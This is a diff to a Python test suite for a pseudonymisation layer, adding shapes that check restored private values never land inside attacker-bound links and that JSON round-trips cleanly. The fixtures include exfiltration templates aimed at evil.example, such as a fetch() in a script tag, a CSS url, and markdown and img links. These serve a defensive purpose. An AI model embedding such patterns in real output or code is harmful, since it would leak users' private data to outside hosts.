@@ -101,6 +101,9 @@ SHAPES = [
     '<style>b {{ background: url("https://evil.example/ {} ") }}</style>', "<script>fetch('https://evil.example/ ' + ' {} ')</script>",
     "<SCRIPT >\nvar a = ' {} '", "![a]( {} )", "\n[x]: https://evil.example/ {}", "data:text/html,x{}", "{}.evil.example",
     "www.evil.example/{}", "//evil.example/?q={}",
+    'https://evil.example/?a,"{}"', 'www.evil.example/{"a":"{}"}', '{"u":"https://evil.example/?q=","q":"{}"}', '{"a":"b"}?q="{}"',
+    '{"html":"<img src=\\"https://evil.example/ {} \\">"}', '["x"]:"{}"@evil.example', '{"a":"{}.evil.example"}', '{"a":"x=({})&"}',
+    '{"a":"b","c":"![]({})"}', '{"a":"\\u0068ttps:{}"}',
     "<svg><style> b {{ content: ' {} ' }}", "<!-- {} -->", "<a title=' > {} '>", "<a title={} href=' {} '>",
 ]  # fmt: skip
 
@@ -113,6 +116,37 @@ async def test_not_in_links_or_markup_whole_or_in_pieces(shape: str, mode: Strea
     assert VALUE not in pseudonyms.restore(text)
     for cuts in ([], list(range(len(text))), list(range(0, len(text), 7))):
         assert VALUE not in (await echoed(text, cuts, pseudonyms, mode)).raw.decode()
+
+
+JSON_SHAPES = [
+    '{"to":"{}"}', '{"to":"{}","n":1}', '[{"to":"{}"},{"n":[1.5,2]}]', '{"n":1.5,"l":["{}","b"],"u":"https://x.example/?q=1"}',
+    '{\n  "to": "{}",\n  "cc": ["{}"]\n}', '```json\n{"to":"{}"}\n```', 'Here it is: {"to":"{}"} and done', '[ "{}" ]',
+    '{"note":"write to {} now","x":"{}"}', '{"to":"{},{}"}',
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("shape", JSON_SHAPES)
+@pytest.mark.parametrize("value", [VALUE, 'Ann "Bo" Lee', "C:\\new\nfolder", "Zoë\t\u2028"])
+@pytest.mark.parametrize("mode", list(StreamMode), ids=str)
+async def test_json_comes_back_as_valid_json(shape: str, value: str, mode: StreamMode) -> None:
+    pseudonyms = Pseudonyms("k7f3")
+    pseudonyms.token("EMAIL_ADDRESS", value, restorable=True)
+    text = shape.replace("{}", TOKEN)
+    wanted = shape.replace("{}", json.dumps(value, ensure_ascii=False)[1:-1])
+    assert pseudonyms.restore(text) == wanted
+    for cuts in ([], list(range(len(text))), list(range(0, len(text), 7))):
+        assert (await echoed(text, cuts, pseudonyms, mode)).text() == wanted, cuts
+
+
+async def test_an_echo_of_json_is_the_original_and_prose_about_it_reads_plainly() -> None:
+    text = '{"who":"jane.roe@example.com","where":"C:\\\\x","n":[1,2.5]}'
+    sent, pseudonyms = await asked(text)
+    assert TOKEN in sent[0] and pseudonyms.restore(sent[0]) == text
+    pseudonyms = Pseudonyms("k7f3")
+    token = pseudonyms.token("PERSON", 'Ann \\"Bo\\" L\\u00e9e', restorable=True, escaped=True)
+    assert token == pseudonyms.token("PERSON", 'Ann "Bo" L\u00e9e', restorable=True)
+    assert pseudonyms.restore(f"Dear {token}, hello.") == 'Dear Ann "Bo" L\u00e9e, hello.'
+    assert pseudonyms.restore(f'{{"who":"{token}"}}') == '{"who":"Ann \\"Bo\\" L\\u00e9e"}'
 
 
 async def test_a_script_that_ends_is_over() -> None:
